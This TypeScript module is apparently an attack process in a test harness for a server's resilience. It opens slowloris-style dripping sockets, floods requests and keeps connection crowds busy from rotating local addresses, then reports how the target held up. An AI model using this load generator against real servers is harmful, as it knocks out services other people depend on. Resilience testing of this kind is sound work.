import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Pool } from 'undici';

/** What the process `attacker.ts` does until its parent stops it. Raw sockets: it shares two cores with its target. */
export interface Attack {
  host: string;
  port: number;
  /** Local addresses, taken in turn. */
  from: readonly string[];
  /** Sockets that send `head` and then one byte of `drip` every `everyMs`; one that is cut is opened again. */
  slow?: { sockets: number; head: string; drip: string; everyMs: number };
  /** First number that replaces `{n}`. */
  first: number;
  /** Requests, each on its own connection, `atOnce` of them every `everyMs`. Each `{n}` becomes a new number. */
  requests?: { texts: readonly string[]; atOnce: number; everyMs: number };
  /** Connections of the first address of `from`; each asks again as soon as it is answered. */
  crowd?: { connections: number; paths: readonly string[] };
}

export interface AttackReport {
  opened: number;
  /** Slow sockets that the server closed. */
  cut: number;
  /** Longest time a slow socket stayed open, in seconds. */
  longestSeconds: number;
  /** Answers by status; 0 for none. */
  answers: Record<string, number>;
  /** CPU time of this process, as a share of one core. */
  cpuShare: number;
}

const REOPENED_AFTER_MS = 500;

function start(attack: Attack): () => AttackReport {
  const report: AttackReport = { opened: 0, cut: 0, longestSeconds: 0, answers: {}, cpuShare: 0 };
  const begun = performance.now();
  let isOver = false;
  let turn = 0;
  const open = (): Socket => {
    report.opened += 1;
    turn += 1;
    const localAddress = attack.from[turn % attack.from.length] ?? '127.0.0.1';
    const socket = connect({ host: attack.host, port: attack.port, localAddress });
    socket.on('error', () => undefined);
    return socket;
  };
  const sockets = new Set<Socket>();

  function openSlow(slow: NonNullable<Attack['slow']>): void {
    const from = performance.now();
    const socket = open();
    sockets.add(socket);
    socket.write(slow.head);
    socket.resume();
    socket.once('close', () => {
      sockets.delete(socket);
      report.longestSeconds = Math.max(report.longestSeconds, (performance.now() - from) / 1_000);
      if (isOver) return;
      report.cut += 1;
      setTimeout(() => !isOver && openSlow(slow), REOPENED_AFTER_MS);
    });
  }

  function send(text: string): void {
    const socket = open();
    let status = '0';
    socket.once('data', (chunk) => (status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1', 0, 20))?.[1] ?? '0'));
    socket.on('data', () => undefined);
    socket.once('close', () => (report.answers[status] = (report.answers[status] ?? 0) + 1));
    socket.setTimeout(20_000, () => socket.destroy());
    socket.write(text);
  }

  async function keepSending({ texts, atOnce, everyMs }: NonNullable<Attack['requests']>): Promise<void> {
    let sent = attack.first;
    for (let due = performance.now(); !isOver; due += everyMs) {
      await sleep(Math.max(0, due - performance.now()));
      for (let count = 0; count < atOnce; count += 1) {
        sent += 1;
        send((texts[sent % texts.length] ?? '').replaceAll('{n}', String(sent)));
      }
    }
  }

  async function keepAsking(pool: Pool, paths: readonly string[], number: number): Promise<void> {
    for (let asked = number; !isOver; asked += paths.length + 1) {
      const path = (paths[asked % paths.length] ?? '/').replaceAll('{n}', `${attack.first}x${number}x${asked}`);
      const status = await pool.request({ method: 'GET', path }).then(
        async ({ statusCode, body }) => {
          await body.dump();
          return String(statusCode);
        },
        () => '0',
      );
      report.answers[status] = (report.answers[status] ?? 0) + 1;
    }
  }

  if (attack.crowd) {
    const { connections, paths } = attack.crowd;
    const [localAddress = '127.0.0.1'] = attack.from;
    const pool = new Pool(`http://${attack.host}:${attack.port}`, { connections, pipelining: 1, localAddress });
    report.opened = connections;
    for (let number = 0; number < connections; number += 1) void keepAsking(pool, paths, number);
  }
  if (attack.slow) {
    const { slow } = attack;
    for (let count = 0; count < slow.sockets; count += 1) openSlow(slow);
    setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(slow.drip);
    }, slow.everyMs);
  }
  if (attack.requests) void keepSending(attack.requests);
  return () => {
    isOver = true;
    for (const socket of sockets) socket.destroy();
    const { user, system } = process.cpuUsage();
    const seconds = (performance.now() - begun) / 1_000;
    const longestSeconds = report.longestSeconds === 0 && attack.slow ? seconds : report.longestSeconds;
    return { ...report, longestSeconds, cpuShare: (user + system) / 1e6 / seconds };
  };
}

// Only when started as a child process.
if (process.send) {
  process.send('ready');
  process.once('message', (attack: Attack) => {
    const stop = start(attack);
    process.once('message', () => {
      process.send?.(stop());
      process.disconnect();
      process.exit();
    });
  });
  process.once('disconnect', () => process.exit());
}
